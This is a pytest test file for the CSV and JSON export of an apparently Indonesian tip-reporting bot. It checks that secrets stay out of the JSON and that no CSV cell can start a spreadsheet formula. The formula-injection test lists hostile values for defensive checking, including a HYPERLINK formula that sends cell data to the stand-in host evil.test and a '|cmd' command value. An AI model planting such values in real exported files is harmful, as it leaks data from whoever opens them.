import csv
import io
import json
from dataclasses import replace
from datetime import date

import pytest

from bot.tips.backends.export import as_csv, as_json
from bot.tips.backends.register import Entry
from bot.tips.tip import Account, Evidence, Known, Package

ACCOUNT = Account(
    'Ia berkata "ingat", lalu\npergi.', "Lurah", known=Known.TOLD, links=("https://a.id", "=b")
)
EVIDENCE = Evidence("a" * 32, "image/png", 7, "9f" * 32, cleaned=True, key=b"secret-key")
PACKAGE = Package("key", "tip-id", "bkn", date(2026, 11, 1), ACCOUNT, (EVIDENCE,), ("Saksi",), "ok")
ENTRY = Entry("key", 2026, 7, date(2026, 11, 25), PACKAGE)
UNREADABLE = Entry("other", 2026, 8, date(2026, 11, 25), None)


def table(*entries: Entry) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(as_csv(entries), newline="")))


def test_a_table_has_a_row_for_each_entry_that_opens() -> None:
    (row,) = table(ENTRY, UNREADABLE)
    assert (row["nomor"], row["tanggal"], row["tujuan"]) == ("2026-0007", "2026-11-25", "bkn")
    assert row["peristiwa"] == 'Ia berkata "ingat", lalu\npergi.'
    assert row["bukti"] == f"image/png {'9f' * 32}"
    assert row["tautan"] == "https://a.id\n=b"


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.test?x="&A1)',
        "+1",
        "-2+3",
        "@SUM(1)",
        "  =1",
        "\ufeff=1",
        "\u200b=1",
        "\x00=1",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1",
        "|cmd",
    ],
)
def test_no_cell_is_a_formula(formula: str) -> None:
    everywhere = Account(
        formula,
        formula,
        formula,
        None,
        formula,
        formula,
        formula,
        formula,
        None,
        formula,
        (formula,),
    )
    package = replace(PACKAGE, account=everywhere, target=formula, reason=formula)
    (row,) = table(replace(ENTRY, package=package))
    for name in ("peristiwa", "terlapor", "waktu", "tempat", "saksi", "tautan", "alasan", "tujuan"):
        assert row[name].startswith("'"), name


def test_json_has_the_numbers_and_neither_keys_nor_tips() -> None:
    text = as_json([ENTRY, UNREADABLE])
    (found,) = json.loads(text)
    assert found["number"] == "2026-0007"
    assert found["evidence"][0]["name"] == "bukti-1.png"
    assert "tip-id" not in text
    assert "secret" not in text
